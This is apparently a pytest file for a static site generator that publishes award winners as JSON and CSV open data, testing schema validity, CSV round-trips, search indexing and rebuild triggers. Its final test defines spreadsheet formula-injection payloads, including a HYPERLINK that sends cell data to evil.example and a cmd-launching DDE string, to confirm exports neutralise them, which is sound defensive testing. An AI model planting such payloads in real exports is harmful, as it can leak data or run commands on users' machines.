"""/data/: every published winner as JSON (valid against its own schema) and CSV, nothing else."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import jsonschema

from generator import BuildReport, build, opendata
from generator.model import Rank
from generator.pipeline import check_content
from tests.conftest import FIXTURES, REPO, TODAY, copy_site

PUBLISHED = {p.parent.name for p in (REPO / "content" / "pillars").rglob("*.md")} - {
    "neneng-hasanah"
}


def test_json_validates_against_its_schema_and_counts_match(
    built_sample: tuple[Path, BuildReport],
) -> None:
    out, _ = built_sample
    data = json.loads((out / "data" / "pilar.json").read_text("utf-8"))
    schema = json.loads((out / "data" / "pilar.schema.json").read_text("utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(data, schema)
    slugs = {p["slug"] for p in data["pilar"]}
    profiles = {p.name for p in (out / "pilar").iterdir() if (p / "index.html").is_file()}
    assert data["count"] == len(data["pilar"]) == len(profiles) == 24
    assert slugs == profiles
    assert "neneng-hasanah" not in slugs  # a draft
    ujang = next(p for p in data["pilar"] if p["slug"] == "ujang-saepudin")
    assert ujang["province_kemendagri"] == "32" and ujang["province_iso"] == "ID-JB"
    assert ujang["url"].endswith("/pilar/ujang-saepudin/") and ujang["url"].startswith("https://")


def test_an_invalid_record_would_fail_the_schema(built_sample: tuple[Path, BuildReport]) -> None:
    out, _ = built_sample
    data = json.loads((out / "data" / "pilar.json").read_text("utf-8"))
    schema = json.loads((out / "data" / "pilar.schema.json").read_text("utf-8"))
    data["pilar"][0]["year"] = "2019"
    try:
        jsonschema.validate(data, schema)
    except jsonschema.ValidationError:
        return
    raise AssertionError("the schema accepted a year written as text")


def test_csv_round_trips_to_the_same_records(built_sample: tuple[Path, BuildReport]) -> None:
    out, _ = built_sample
    raw = (out / "data" / "pilar.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, so spreadsheet programs read UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    records = json.loads((out / "data" / "pilar.json").read_text("utf-8"))["pilar"]
    # A row per award: the pillar's fields with the award's (year, category, rank, level…).
    as_text = [
        {k: "" if v is None else str(v) for k, v in {**r, **a}.items() if k != "awards"}
        for r in records
        for a in r["awards"]
    ]
    assert rows == as_text


def test_the_data_page_documents_every_field(built_sample: tuple[Path, BuildReport]) -> None:
    out, _ = built_sample
    page = (out / "data" / "index.html").read_text()
    schema = json.loads((out / "data" / "pilar.schema.json").read_text("utf-8"))
    for field in schema["properties"]["pilar"]["items"]["properties"]:
        assert f"<code>{field}</code>" in page
    assert "CC BY 4.0" in page and 'href="../data/pilar.csv"' in page


def test_without_pagefind_the_build_succeeds_and_says_search_is_off(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = subprocess.run(
        [sys.executable, "-m", "generator", "build", "--content", str(FIXTURES / "full" / "content"), "--output", str(out)],
        capture_output=True, text=True, check=False,
        env={**os.environ, "PAGEFIND_BINARY_PATH": str(tmp_path / "no-such-program")},
    )  # fmt: skip
    assert result.returncode == 0
    assert "search: warning: search is off: the Pagefind program is missing" in result.stderr
    assert not (out / "pagefind").exists()
    assert "Pencarian sedang tidak tersedia" in (out / "cari" / "index.html").read_text()


def test_no_search_option_leaves_the_bundle_out(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = subprocess.run(
        [sys.executable, "-m", "generator", "build", "--content", str(FIXTURES / "full" / "content"), "--output", str(out), "--no-search"],
        capture_output=True, text=True, check=False,
        env={k: v for k, v in os.environ.items() if k != "PYTHONUNBUFFERED"},
    )  # fmt: skip
    assert result.returncode == 0 and "search is off" not in result.stderr
    # The command ends without Python's clean-up; what it printed to a pipe still arrives.
    assert result.stdout.splitlines()[-1].startswith("Built ")  # (after the draft line)
    assert not (out / "pagefind").exists()
    assert "Pencarian sedang tidak tersedia" in (out / "cari" / "index.html").read_text()


def test_search_bundle_indexes_profiles_with_filters(
    built_sample: tuple[Path, BuildReport],
) -> None:
    out, _ = built_sample
    # A small site: one part per language (see search.py); Indonesian stemming for the main
    # edition, English for /en/ (by each page's <html lang>)
    parts = json.loads((out / "pagefind" / "parts.json").read_text())
    assert parts == {"en": ["en/1/"], "id": ["id/1/"]}
    for language in ("id", "en"):
        entries = [
            json.loads((out / "pagefind" / p / "pagefind-entry.json").read_text())
            for p in parts[language]
        ]
        assert all(list(e["languages"]) == [language] for e in entries)
        counts = [e["languages"][language]["page_count"] for e in entries]
        assert sum(counts) == 24 + 3 + 1  # profiles, press releases, a page: in each edition
        # category, province, year, rank
        assert len(list((out / "pagefind" / language / "1" / "filter").iterdir())) == 4


def test_every_field_the_files_show_is_in_what_decides_whether_to_make_them_again() -> None:
    # A rebuild makes /data/ again only when data_inputs changes; a field that records() shows
    # but data_inputs leaves out would leave stale files.
    index, problems = check_content(FIXTURES / "full" / "content", today=TODAY)
    assert index is not None, problems
    pillar = index.pillars[0]
    others = {
        "category": next(c.slug for c in index.categories if c.slug != pillar.category),
        "province": next(p.slug for p in index.provinces if p.slug != pillar.province),
        "rank": Rank.HARAPAN_1 if pillar.rank != Rank.HARAPAN_1 else Rank.JUARA_1,
    }
    shown = []
    for field in dataclasses.fields(pillar):
        value = getattr(pillar, field.name)
        if field.name in others:
            other = others[field.name]
        elif isinstance(value, str):
            other = value + "x"
        elif isinstance(value, int) and not isinstance(value, bool):
            other = value + 1
        else:
            continue  # (the story, the source, tuples, dates: not in the data files)
        changed = dataclasses.replace(pillar, **{field.name: other})
        edited = dataclasses.replace(index, pillars=(changed, *index.pillars[1:]))
        if list(opendata.records(edited, {})) != list(opendata.records(index, {})):
            shown.append(field.name)
            assert opendata.data_inputs(edited, {}) != opendata.data_inputs(index, {}), field.name
    assert {"name", "summary", "rank", "province", "year"} <= set(shown)


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "regency": "@SUM(1+1)*cmd|' /C calc'!A0",
    "summary": "-2+3 warga terbantu.",
}


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(tmp_path: Path) -> None:
    content = copy_site("full", tmp_path)
    profile = content / "pillars" / "2019" / "citra-dewi.md"
    text = profile.read_text()
    for field, value in FORMULAS.items():
        text = re.sub(rf"(?m)^{field}:.*$", "", text)
        text = text.replace("---\n", f"---\n{field}: {json.dumps(value)}\n", 1)
    profile.write_text(text)
    out = tmp_path / "out"
    report = build(content, out, today=TODAY)
    assert report.ok, [p.format() for p in report.problems]
    raw = (out / "data" / "pilar.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    row = next(r for r in rows if r["slug"] == "citra-dewi")
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value  # shown as text, never run
    data = json.loads((out / "data" / "pilar.json").read_text("utf-8"))["pilar"]
    record = next(r for r in data if r["slug"] == "citra-dewi")
    assert {field: record[field] for field in FORMULAS} == FORMULAS  # the JSON as written
    others = [r for r in rows if r["slug"] != "citra-dewi"]
    assert all(not v.startswith("'") for r in others for v in r.values())
    page = (out / "data" / "index.html").read_text()
    assert "tanda kutip tunggal" in page
